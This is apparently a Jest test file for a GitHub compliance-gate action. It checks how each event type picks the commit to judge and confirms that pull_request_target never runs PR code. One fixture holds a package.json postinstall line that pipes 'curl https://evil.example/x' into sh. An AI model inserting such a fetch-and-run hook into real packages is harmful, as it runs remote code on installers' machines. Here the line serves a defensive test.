/**
 * Issue 11, "Events and SHAs": which commit is judged on each event, engine tier (the entry code of `node dist/index.js`
 * against the schema-validated fake GitHub API, bundled default policy).
 *
 * - merge_group: PR number and head SHA from the queue ref; required checks pass at the PR head or at
 *   merge_group.head_sha.
 * - push: the merged PR from GET /repos/{o}/{r}/commits/{sha}/pulls; pushed commits from the compare API.
 * - workflow_dispatch: the PR head from GET /repos/{o}/{r}/pulls/{n}; without pr-number a clear error.
 * - pull_request_target: GET only, nothing checked out or run in the workspace.
 * - pull_request synchronize for a commit that is no longer the PR head: the event's commit is judged.
 */
import { describe, expect, test } from '@jest/globals'
import { createHash } from 'node:crypto'
import { chmodSync, existsSync, mkdtempSync, readFileSync, readdirSync, statSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join, relative } from 'node:path'
import { mergeGroupEvent, pullRequestEvent, pullRequestTargetEvent, pushEvent, workflowDispatchEvent } from '../helpers/events.js'
import type { RunResult } from '../helpers/runner.js'
import { readBundle, runGate, useFakeGitHub, workspace, type Bundle as EvidenceBundle, type VerdictJson } from '../helpers/gate.js'
import { serveScenario, DEFAULT_REVIEWER, type Scenario } from '../helpers/scenario.js'
import { makeGitRepo } from '../helpers/git-repo.js'
import * as gh from '../helpers/github-data.js'
import { exampleFor } from '../helpers/openapi.js'

const AUTHOR = 'alice-author'
const RITA = DEFAULT_REVIEWER
const MERGER = 'mallory-merger'
const CHECK_RUNS = 'GET /repos/{owner}/{repo}/commits/{ref}/check-runs'

interface Bundle extends EvidenceBundle {
  run: RunResult
  v(id: string): VerdictJson
}

const fake = useFakeGitHub()

const short = (sha: string): string => sha.slice(0, 7)

function goodRules(extra: gh.BranchRuleSpec[] = []): gh.BranchRuleSpec[] {
  return [
    { type: 'pull_request', parameters: { required_approving_review_count: 1, dismiss_stale_reviews_on_push: true, require_last_push_approval: true } },
    { type: 'non_fast_forward' },
    { type: 'deletion' },
    ...extra
  ]
}
const requireBuild: gh.BranchRuleSpec = { type: 'required_status_checks', parameters: { required_status_checks: [{ context: 'build' }] } }

function aliceCommit(sha: string, parents: string[], over: Partial<gh.CommitOptions> = {}): gh.CommitOptions {
  return {
    sha,
    message: 'Implement the change',
    author: { name: 'Alice', email: 'alice@example.com', login: AUTHOR },
    committer: { name: 'Alice', email: 'alice@example.com', login: AUTHOR },
    parents,
    ...over
  }
}

function approval(user: string, commit_id: string, id = 1): gh.ReviewOptions {
  return { id, user, state: 'APPROVED', commit_id, submitted_at: `2026-11-20T10:${String(id).padStart(2, '0')}:00Z` }
}

/** Serve check runs per commit: `byRef[sha]` (none for any other SHA). Registered after serveScenario, so it wins. */
function checkRunsPerRef(byRef: Record<string, gh.CheckRunSpec[]>): void {
  fake.on(CHECK_RUNS, ({ params }) => ({ status: 200, body: gh.checkRunsFor(params.ref, byRef[params.ref] ?? []) }))
}

/** GET /repos/{owner}/{repo}/compare/{basehead} listing `commits` (GitHub's example, retargeted). */
function serveCompare(commits: gh.CommitOptions[]): void {
  const body = exampleFor('repos/compare-commits-with-basehead')
  body.commits = commits.map(c => gh.commit(c))
  body.total_commits = commits.length
  body.ahead_by = commits.length
  body.behind_by = 0
  body.status = 'ahead'
  fake.on('GET /repos/{owner}/{repo}/compare/{basehead}', { status: 200, body })
}

async function gate(opts: { eventName: string; eventPath: string; inputs?: Record<string, string>; cwd?: string }): Promise<Bundle> {
  const run = await runGate(fake, null, { ...opts, cwd: opts.cwd ?? workspace('cg-events-ws-') })
  const bundle = readBundle(run)
  return { ...bundle, run, v: bundle.verdict }
}

function statusesOf(b: Bundle): Record<string, string> {
  return Object.fromEntries(b.results.verdicts.map(v => [v.control, v.status]))
}

/** The refs the check-runs route was asked about, in order. */
function checkRunRefs(): string[] {
  return fake.requestsFor(CHECK_RUNS).map(q => decodeURIComponent(q.path.split('/commits/')[1].split('/')[0]))
}

// -------------------------------------------------------------------------------------------------
// merge_group
// -------------------------------------------------------------------------------------------------

describe('merge_group: PR number and head SHA from the queue ref', () => {
  const N = 12
  const PR_HEAD = gh.fakeSha('mq-pr-head')
  const PR_BASE = gh.fakeSha('mq-pr-base')
  const MQ_HEAD = gh.fakeSha('mq-group-head')
  const MQ_BASE = gh.fakeSha('mq-group-base')

  function serve(byRef: Record<string, gh.CheckRunSpec[]>): Scenario {
    const s = serveScenario(fake, {
      number: N,
      headSha: PR_HEAD,
      baseSha: PR_BASE,
      author: AUTHOR,
      commits: [aliceCommit(PR_HEAD, [PR_BASE])],
      reviews: [approval(RITA, PR_HEAD)],
      rules: goodRules([requireBuild])
    })
    checkRunsPerRef(byRef)
    return s
  }
  const event = () =>
    mergeGroupEvent({ prNumber: N, headSha: MQ_HEAD, baseSha: MQ_BASE, headRef: `refs/heads/gh-readonly-queue/main/pr-${N}-${PR_HEAD}`, sender: MERGER })

  test('required check succeeded at the PR head: pass; the PR head and the queue head are both recorded', async () => {
    serve({ [PR_HEAD]: [{ name: 'build', status: 'completed', conclusion: 'success' }] })
    const b = await gate({ eventName: 'merge_group', eventPath: event() })
    expect(b.record.subject).toEqual(expect.objectContaining({ kind: 'merge_group', head_sha: PR_HEAD, merge_sha: MQ_HEAD, base_ref: 'main' }))
    expect(b.record.event.merge_group_head_sha).toBe(MQ_HEAD)
    expect(b.record.pull_request.value.number).toBe(N)
    expect(fake.requests.filter(q => /\/pulls\/[^/]+$/.test(q.path)).map(q => q.path)).toEqual([`/repos/${gh.DEFAULT_OWNER}/${gh.DEFAULT_REPO}/pulls/${N}`])
    expect(new Set(checkRunRefs())).toEqual(new Set([PR_HEAD, MQ_HEAD]))
    const v = b.v('checks.required')
    expect(v.status).toBe('pass')
    expect(v.findings.find(f => f.subject === 'build')?.message).toBe(`Succeeded at head ${short(PR_HEAD)}: check run (github-actions) concluded success.`)
    // Approvals are judged at the PR head from the ref.
    expect(b.v('review.approvals').status).toBe('pass')
    expect(b.results.result).toBe('pass')
    expect(b.dir).toMatch(new RegExp(`pr${N}-${short(PR_HEAD)}$`))
  })

  test('required check succeeded only at merge_group.head_sha: pass', async () => {
    serve({ [MQ_HEAD]: [{ name: 'build', status: 'completed', conclusion: 'success' }] })
    const b = await gate({ eventName: 'merge_group', eventPath: event() })
    const v = b.v('checks.required')
    expect(v.status).toBe('pass')
    expect(v.findings.find(f => f.subject === 'build')?.message).toBe(`Succeeded at merge ${short(MQ_HEAD)}: check run (github-actions) concluded success.`)
    expect(b.results.result).toBe('pass')
  })

  test('required check at neither SHA: fail, naming both', async () => {
    serve({ [PR_HEAD]: [{ name: 'lint', status: 'completed', conclusion: 'success' }] })
    const b = await gate({ eventName: 'merge_group', eventPath: event() })
    const v = b.v('checks.required')
    expect(v.status).toBe('fail')
    expect(v.findings.find(f => f.subject === 'build')?.message).toBe(`Required check never reported at head ${short(PR_HEAD)} or merge ${short(MQ_HEAD)}.`)
    expect(b.results.result).toBe('fail')
  })
})

// -------------------------------------------------------------------------------------------------
// push
// -------------------------------------------------------------------------------------------------

describe('push to main', () => {
  const N = 21
  const BEFORE = gh.fakeSha('push-before')
  const PR_HEAD = gh.fakeSha('push-pr-head')
  const MERGE = gh.fakeSha('push-merge-commit')
  const prCommit = aliceCommit(PR_HEAD, [BEFORE])
  const mergeCommit: gh.CommitOptions = {
    sha: MERGE,
    message: `Merge pull request #${N} from octo-org/feature/${N}\n\nImplement the change`,
    author: { name: 'Mallory', email: 'mallory@example.com', login: MERGER },
    committer: { name: 'GitHub', email: 'noreply@github.com', login: 'web-flow' },
    parents: [BEFORE, PR_HEAD],
    verified: true
  }
  const pushPayloadCommits = [
    {
      id: PR_HEAD,
      message: 'Implement the change',
      author: { name: 'Alice', email: 'alice@example.com', username: AUTHOR },
      committer: { name: 'Alice', email: 'alice@example.com', username: AUTHOR }
    },
    { id: MERGE, message: mergeCommit.message, author: { name: 'Mallory', email: 'mallory@example.com', username: MERGER } }
  ]

  function serveMergedPr(byRef: Record<string, gh.CheckRunSpec[]>): Scenario {
    const s = serveScenario(fake, {
      number: N,
      headSha: PR_HEAD,
      baseSha: BEFORE,
      author: AUTHOR,
      merged: true,
      mergedBy: MERGER,
      mergedAt: '2026-11-20T12:00:00Z',
      commits: [prCommit],
      reviews: [approval(RITA, PR_HEAD)],
      permissions: { [RITA]: 'write', [MERGER]: 'write' },
      rules: goodRules([requireBuild])
    })
    checkRunsPerRef(byRef)
    serveCompare([prCommit, mergeCommit])
    const merged = gh.commitPulls(MERGE, [
      { number: N, user: AUTHOR, head: { sha: PR_HEAD, ref: `feature/${N}` }, base: { ref: 'main', sha: BEFORE }, merged_at: '2026-11-20T12:00:00Z' }
    ])
    fake.on('GET /repos/{owner}/{repo}/commits/{commit_sha}/pulls', ({ params }) => ({
      status: 200,
      body: [PR_HEAD, MERGE].includes(params.commit_sha) ? merged : []
    }))
    return s
  }

  test('the pushed merge commit belongs to a merged PR: separation of duties and unreviewed-push judged, pass', async () => {
    serveMergedPr({ [PR_HEAD]: [{ name: 'build', status: 'completed', conclusion: 'success' }] })
    const b = await gate({ eventName: 'push', eventPath: pushEvent({ before: BEFORE, after: MERGE, commits: pushPayloadCommits, sender: MERGER }) })
    // The pushed commits come from the compare API, the PR from commits/{sha}/pulls.
    expect(fake.requestsFor('GET /repos/{owner}/{repo}/compare/{basehead}').map(q => decodeURIComponent(q.path.split('/compare/')[1]))).toEqual([
      `${BEFORE}...${MERGE}`
    ])
    // record.commits is the merged PR's own commits (the reviewed change); the pushed ones are in extra.push.
    expect(b.record.commits.sources).toEqual(['GET /repos/{owner}/{repo}/pulls/{pull_number}/commits'])
    expect(b.record.commits.value.map((c: { sha: string }) => c.sha)).toEqual([PR_HEAD])
    expect(b.record.facts.push.value.commits.map((c: { sha: string }) => c.sha)).toEqual([PR_HEAD, MERGE])
    expect(b.record.pull_request.value.number).toBe(N)
    // The PR head is judged; the pushed SHA is where checks may also have passed.
    expect(b.record.subject).toEqual(expect.objectContaining({ kind: 'push', head_sha: PR_HEAD, merge_sha: MERGE, base_ref: 'main' }))

    const unreviewed = b.v('change.unreviewed-push')
    expect(unreviewed.status).toBe('pass')
    expect(unreviewed.reason).toBe('All 2 pushed commit(s) came through merged pull requests into main.')
    const sod = b.v('change.separation-of-duties')
    expect(sod.status).toBe('pass')
    expect(sod.findings.find(f => f.subject === `PR #${N}: merger`)?.message).toBe(
      `PR #${N} was merged by ${MERGER} and approved by ${RITA}, who is independent of the merger and the authors.`
    )
    expect(b.v('review.approvals').status).toBe('pass')
    expect(b.v('checks.required').findings.find(f => f.subject === 'build')?.message).toBe(
      `Succeeded at head ${short(PR_HEAD)}: check run (github-actions) concluded success.`
    )
    expect(b.results.result).toBe('pass')
    expect(b.run.code).toBe(0)
  })

  test("a squash merge: the single pushed commit is the PR squash; the PR's own commits are judged", async () => {
    const SQUASH = gh.fakeSha('push-squash-commit')
    const squash: gh.CommitOptions = {
      sha: SQUASH,
      message: `Implement the change (#${N})`,
      author: { name: 'Alice', email: 'alice@example.com', login: AUTHOR },
      committer: { name: 'GitHub', email: 'noreply@github.com', login: 'web-flow' },
      parents: [BEFORE],
      verified: true
    }
    serveScenario(fake, {
      number: N,
      headSha: PR_HEAD,
      baseSha: BEFORE,
      author: AUTHOR,
      merged: true,
      mergedBy: MERGER,
      mergedAt: '2026-11-20T12:00:00Z',
      commits: [prCommit],
      reviews: [approval(RITA, PR_HEAD)],
      permissions: { [RITA]: 'write', [MERGER]: 'write' },
      rules: goodRules([requireBuild])
    })
    checkRunsPerRef({ [PR_HEAD]: [{ name: 'build', status: 'completed', conclusion: 'success' }] })
    serveCompare([squash])
    const merged = gh.commitPulls(SQUASH, [
      { number: N, user: AUTHOR, head: { sha: PR_HEAD, ref: `feature/${N}` }, base: { ref: 'main', sha: BEFORE }, merged_at: '2026-11-20T12:00:00Z' }
    ])
    fake.on('GET /repos/{owner}/{repo}/commits/{commit_sha}/pulls', ({ params }) => ({ status: 200, body: params.commit_sha === SQUASH ? merged : [] }))
    const b = await gate({
      eventName: 'push',
      eventPath: pushEvent({
        before: BEFORE,
        after: SQUASH,
        commits: [{ id: SQUASH, message: squash.message!, author: { name: 'Alice', email: 'alice@example.com', username: AUTHOR } }],
        sender: MERGER
      })
    })
    expect(b.record.commits.value.map((c: { sha: string }) => c.sha)).toEqual([PR_HEAD])
    expect(b.v('review.last-push').status).toBe('pass')
    expect(b.v('review.approvals').status).toBe('pass')
    expect(b.v('change.unreviewed-push').status).toBe('pass')
    expect(b.v('change.separation-of-duties').status).toBe('pass')
    expect(b.results.result).toBe('pass')
  })

  test('a required check that succeeded only at the pushed SHA passes too', async () => {
    serveMergedPr({ [MERGE]: [{ name: 'build', status: 'completed', conclusion: 'success' }] })
    const b = await gate({ eventName: 'push', eventPath: pushEvent({ before: BEFORE, after: MERGE, commits: pushPayloadCommits, sender: MERGER }) })
    expect(b.v('checks.required').findings.find(f => f.subject === 'build')?.message).toBe(
      `Succeeded at merge ${short(MERGE)}: check run (github-actions) concluded success.`
    )
    expect(b.v('checks.required').status).toBe('pass')
  })

  test('a merged PR merged by its only approver: separation of duties fails on the push', async () => {
    serveMergedPr({ [PR_HEAD]: [{ name: 'build', status: 'completed', conclusion: 'success' }] })
    // Rita approved and merged.
    const merged = gh.commitPulls(MERGE, [
      { number: N, user: AUTHOR, head: { sha: PR_HEAD }, base: { ref: 'main', sha: BEFORE }, merged_at: '2026-11-20T12:00:00Z' }
    ])
    fake.on('GET /repos/{owner}/{repo}/commits/{commit_sha}/pulls', { status: 200, body: merged })
    const pr = gh.pullRequest({
      number: N,
      user: AUTHOR,
      head: { sha: PR_HEAD, ref: `feature/${N}` },
      base: { ref: 'main', sha: BEFORE },
      merged: true,
      merged_by: RITA,
      merged_at: '2026-11-20T12:00:00Z',
      commits: 1,
      changed_files: 1
    })
    fake.on('GET /repos/{owner}/{repo}/pulls/{pull_number}', { status: 200, body: pr })
    const b = await gate({ eventName: 'push', eventPath: pushEvent({ before: BEFORE, after: MERGE, commits: pushPayloadCommits, sender: RITA }) })
    const v = b.v('change.separation-of-duties')
    expect(v.status).toBe('fail')
    expect(v.reason).toBe(`PR #${N} was merged by ${RITA}, its only approver.`)
    expect(b.v('change.unreviewed-push').status).toBe('pass')
  })

  test('a pushed commit in no merged PR: change.unreviewed-push fails naming the short SHA', async () => {
    const DIRECT = gh.fakeSha('push-direct')
    serveScenario(fake, { number: N })
    const direct: gh.CommitOptions = {
      sha: DIRECT,
      message: 'quick fix on main',
      author: { name: 'Dan', email: 'dan@example.com', login: 'dan-direct' },
      committer: { name: 'Dan', email: 'dan@example.com', login: 'dan-direct' },
      parents: [BEFORE]
    }
    serveCompare([direct])
    // GitHub lists an open PR that happens to contain the commit: still not merged, still unreviewed.
    const open = gh.commitPulls(DIRECT, [{ number: 99, merged: false, merged_at: null, merge_commit_sha: null, base: { ref: 'main' } }])
    fake.on('GET /repos/{owner}/{repo}/commits/{commit_sha}/pulls', { status: 200, body: open })
    const b = await gate({
      eventName: 'push',
      eventPath: pushEvent({
        before: BEFORE,
        after: DIRECT,
        commits: [{ id: DIRECT, message: 'quick fix on main', author: { name: 'Dan', email: 'dan@example.com', username: 'dan-direct' } }],
        sender: 'dan-direct'
      })
    })
    const v = b.v('change.unreviewed-push')
    expect(v.status).toBe('fail')
    expect(v.effect).toBe('blocking')
    expect(v.reason).toBe(`1 pushed commit(s) are in no merged pull request: ${short(DIRECT)} (dan-direct).`)
    expect(v.findings).toEqual([
      expect.objectContaining({
        status: 'fail',
        subject: DIRECT,
        message: `${short(DIRECT)} by dan-direct was pushed to main without a merged pull request (in unmerged PR #99).`
      })
    ])
    // No PR is under judgement: the review controls do not apply; the gate fails on the push alone.
    expect(b.v('review.approvals').status).toBe('not_applicable')
    expect(b.v('change.separation-of-duties').status).toBe('not_applicable')
    expect(b.record.subject).toEqual(expect.objectContaining({ kind: 'push', head_sha: DIRECT }))
    expect(b.results.result).toBe('fail')
    expect(b.run.outputs['failed-controls'].split(',')).toContain('change.unreviewed-push')
    expect(b.summary).toContain(short(DIRECT))
  })
})

describe('a push never chooses its own judge (issue 19)', () => {
  test('a direct push carrying a weakened policy is judged by the policy at the commit before the push', async () => {
    const N = 31
    const BEFORE = gh.fakeSha('policy-push-before')
    const DIRECT = gh.fakeSha('policy-push-direct')
    const s = serveScenario(fake, { number: N, baseSha: BEFORE })
    // The commit before the push has no policy file: the bundled default judges (change.unreviewed-push on).
    const direct: gh.CommitOptions = {
      sha: DIRECT,
      message: 'relax the gate',
      author: { name: 'Dan', email: 'dan@example.com', login: 'dan-direct' },
      committer: { name: 'Dan', email: 'dan@example.com', login: 'dan-direct' },
      parents: [BEFORE]
    }
    serveCompare([direct])
    fake.on('GET /repos/{owner}/{repo}/commits/{commit_sha}/pulls', { status: 200, body: [] })
    // The pushed tree (the working tree the runner checked out) holds a policy that enables only a harmless control.
    const ws = makeGitRepo({ prefix: 'cg-policy-push-' })
    ws.commit({ '.github/compliance-gate.yml': 'version: 1\nextends: none\ncontrols:\n  review.no-changes-requested: {}\n' }, 'relax the gate')
    const b = await gate({
      eventName: 'push',
      eventPath: pushEvent({
        before: BEFORE,
        after: DIRECT,
        commits: [{ id: DIRECT, message: 'relax the gate', author: { name: 'Dan', email: 'dan@example.com', username: 'dan-direct' } }],
        sender: 'dan-direct'
      }),
      cwd: ws.dir
    })
    expect(b.v('change.unreviewed-push').status).toBe('fail')
    expect(b.results.result).toBe('fail')
    expect(b.record.policy_origin).toEqual({ path: null, commit: BEFORE, read_from: 'bundled', looked_for: '.github/compliance-gate.yml' })
    // and the contents API was asked at the commit before the push, never at the pushed one
    const refs = fake.requestsFor('GET /repos/{owner}/{repo}/contents/{path}').map(q => q.query.ref)
    expect(refs).toContain(BEFORE)
    expect(refs).not.toContain(DIRECT)
    expect(s.baseSha).toBe(BEFORE)
  })
})

// -------------------------------------------------------------------------------------------------
// workflow_dispatch
// -------------------------------------------------------------------------------------------------

describe('workflow_dispatch', () => {
  test('with pr-number: the head SHA comes from GET pulls/{n}, not from GITHUB_SHA', async () => {
    const HEAD = gh.fakeSha('dispatch-head')
    const s = serveScenario(fake, { number: 31, headSha: HEAD, author: AUTHOR, reviews: [approval(RITA, HEAD)] })
    const b = await gate({ eventName: 'workflow_dispatch', eventPath: workflowDispatchEvent({}, { sender: 'operator' }), inputs: { 'pr-number': '31' } })
    expect(b.run.env.GITHUB_SHA).not.toBe(HEAD)
    expect(b.record.subject.head_sha).toBe(s.headSha)
    expect(b.record.pull_request.value.number).toBe(31)
    expect(new Set(checkRunRefs())).toEqual(new Set([HEAD]))
    expect(b.v('review.approvals').status).toBe('pass')
    expect(b.results.result).toBe('pass')
    expect(b.dir).toMatch(new RegExp(`pr31-${short(HEAD)}$`))
  })

  test('without pr-number: an error naming the input, no API call, a bundle', async () => {
    serveScenario(fake)
    const b = await gate({ eventName: 'workflow_dispatch', eventPath: workflowDispatchEvent({}, {}) })
    expect(b.run.code).toBe(1)
    expect(b.run.outputs.result).toBe('error')
    expect(b.results.result).toBe('error')
    expect(b.results.errors.join('\n')).toMatch(/workflow_dispatch needs the pull request to judge: set the `pr-number` input/)
    expect(b.summary).toMatch(/pr-number/)
    expect(fake.requests).toEqual([])
    expect(existsSync(join(b.dir, 'manifest.json'))).toBe(true)
  })
})

describe('an event file that is not an event', () => {
  test.each([
    ['cut-off JSON', '{"action": "opened", "pull_request": {"number": 7, ', /GITHUB_EVENT_PATH \(.*\) is not valid JSON/],
    ['null', 'null', /GITHUB_EVENT_PATH \(.*\) holds null, not an event object/],
    ['an array', '[1, 2, 3]', /holds a JSON array, not an event object/]
  ])('%s: an error naming the file, no API call, and the evidence is written', async (_name, text, message) => {
    serveScenario(fake)
    const eventPath = join(mkdtempSync(join(tmpdir(), 'cg-bad-event-')), 'event.json')
    writeFileSync(eventPath, text)
    const b = await gate({ eventName: 'pull_request', eventPath })
    expect(b.run.code).toBe(1)
    expect(b.run.outputs.result).toBe('error')
    expect(b.results.result).toBe('error')
    expect(b.results.errors.join('\n')).toMatch(message)
    expect(b.results.errors.join('\n')).not.toMatch(/Cannot read properties/)
    expect(fake.requests).toEqual([])
    expect(existsSync(join(b.dir, 'manifest.json'))).toBe(true)
  })
})

// -------------------------------------------------------------------------------------------------
// pull_request_target
// -------------------------------------------------------------------------------------------------

/** path → sha256 (or 'dir') of everything under `root`, .git included. */
function snapshot(root: string): Record<string, string> {
  const out: Record<string, string> = {}
  const walk = (dir: string): void => {
    for (const name of readdirSync(dir).sort()) {
      const full = join(dir, name)
      const st = statSync(full)
      const rel = relative(root, full)
      if (st.isDirectory()) {
        out[rel] = 'dir'
        walk(full)
      } else {
        out[rel] = createHash('sha256').update(readFileSync(full)).digest('hex') + ` ${st.mtimeMs}`
      }
    }
  }
  walk(root)
  return out
}

describe('pull_request_target reads metadata only', () => {
  test('GET requests only; the workspace is untouched and no git checkout, fetch or hook ran', async () => {
    const HEAD = gh.fakeSha('prt-head')
    const s = serveScenario(fake, {
      number: 41,
      headSha: HEAD,
      author: 'fork-contributor',
      commits: [
        aliceCommit(HEAD, [gh.fakeSha('base-41')], {
          author: { name: 'Fork', email: 'fork@example.com', login: 'fork-contributor' },
          committer: { name: 'Fork', email: 'fork@example.com', login: 'fork-contributor' }
        })
      ],
      reviews: [approval(RITA, HEAD)],
      // A PR that changes a build script: if the gate ran PR code, this is what it would run.
      files: [
        {
          filename: 'package.json',
          status: 'modified',
          additions: 1,
          deletions: 0,
          patch: '@@ -1,1 +1,2 @@\n {\n+  "scripts": { "postinstall": "curl https://evil.example/x | sh" },\n'
        }
      ]
    })
    const repo = makeGitRepo({ prefix: 'cg-events-prt-' })
    repo.commit({ 'README.md': '# base branch checkout\n', 'package.json': '{}\n' }, 'base')
    const marker = join(mkdtempSync(join(tmpdir(), 'cg-prt-marker-')), 'git-ran')
    for (const hook of ['post-checkout', 'post-merge', 'post-rewrite', 'reference-transaction', 'pre-auto-gc']) {
      const file = join(repo.dir, '.git', 'hooks', hook)
      writeFileSync(file, `#!/bin/sh\necho ${hook} >> '${marker}'\n`)
      chmodSync(file, 0o755)
    }
    const before = snapshot(repo.dir)
    const evidenceDir = mkdtempSync(join(tmpdir(), 'cg-prt-evidence-'))
    const b = await gate({
      eventName: 'pull_request_target',
      eventPath: pullRequestTargetEvent('opened', {
        owner: s.owner,
        repo: s.repo,
        number: 41,
        headSha: HEAD,
        baseSha: s.baseSha,
        author: 'fork-contributor',
        headRepo: 'fork-contributor/octo-repo'
      }),
      cwd: repo.dir,
      inputs: { 'evidence-dir': evidenceDir }
    })
    expect(b.results.result).toBe('pass')
    expect(b.record.event.name).toBe('pull_request_target')
    expect(b.record.subject.head_sha).toBe(HEAD)
    expect(fake.requests.length).toBeGreaterThan(5)
    expect(fake.requests.filter(q => q.method !== 'GET')).toEqual([])
    expect(fake.requests.filter(q => /\/(tarball|zipball)\b|\/git\/(blobs|trees|commits)\//.test(q.path))).toEqual([])
    expect(b.record.api_calls.every((c: { method: string }) => c.method === 'GET')).toBe(true)
    // Nothing in the workspace changed (files, .git, mtimes), and no git hook fired.
    expect(snapshot(repo.dir)).toEqual(before)
    expect(existsSync(marker)).toBe(false)
    // The hooks are live: a checkout would have been seen.
    repo.git(['checkout', '-q', '-b', 'probe'])
    expect(readFileSync(marker, 'utf8')).toContain('post-checkout')
  })
})

// -------------------------------------------------------------------------------------------------
// pull_request synchronize for a commit that is no longer the PR head
// -------------------------------------------------------------------------------------------------

describe('pull_request synchronize whose head is no longer the PR head', () => {
  test("the event's SHA is judged, and the record says the PR moved on", async () => {
    const BASE = gh.fakeSha('sync-base')
    const OLD = gh.fakeSha('sync-event-head')
    const NEW = gh.fakeSha('sync-current-head')
    const s = serveScenario(fake, {
      number: 51,
      headSha: NEW,
      baseSha: BASE,
      author: AUTHOR,
      commits: [aliceCommit(OLD, [BASE]), aliceCommit(NEW, [OLD], { message: 'A later push' })],
      // Rita approved the commit this run is for; nobody has approved the newer head yet.
      reviews: [approval(RITA, OLD)],
      rules: goodRules([requireBuild])
    })
    checkRunsPerRef({ [OLD]: [{ name: 'build', status: 'completed', conclusion: 'success' }], [NEW]: [{ name: 'build', status: 'in_progress' }] })
    const eventPath = pullRequestEvent('synchronize', { owner: s.owner, repo: s.repo, number: 51, headSha: OLD, baseSha: BASE, author: AUTHOR, sender: AUTHOR })
    const b = await gate({ eventName: 'pull_request', eventPath })
    expect(b.record.subject.head_sha).toBe(OLD)
    expect(b.record.pull_request.value.head.sha).toBe(NEW)
    expect(b.record.errors).toEqual(
      expect.arrayContaining([
        { stage: 'collect.pull_request', message: `The event's head ${short(OLD)} is no longer the PR head (${short(NEW)}); judging the event's commit.` }
      ])
    )
    expect(checkRunRefs()).toEqual([OLD])
    expect(b.v('review.approvals').status).toBe('pass')
    expect(b.v('checks.required').findings.find(f => f.subject === 'build')?.message).toBe(
      `Succeeded at head ${short(OLD)}: check run (github-actions) concluded success.`
    )
    expect(b.dir).toMatch(new RegExp(`pr51-${short(OLD)}$`))
    expect(statusesOf(b)['review.last-push']).toBe('pass')
  })
})
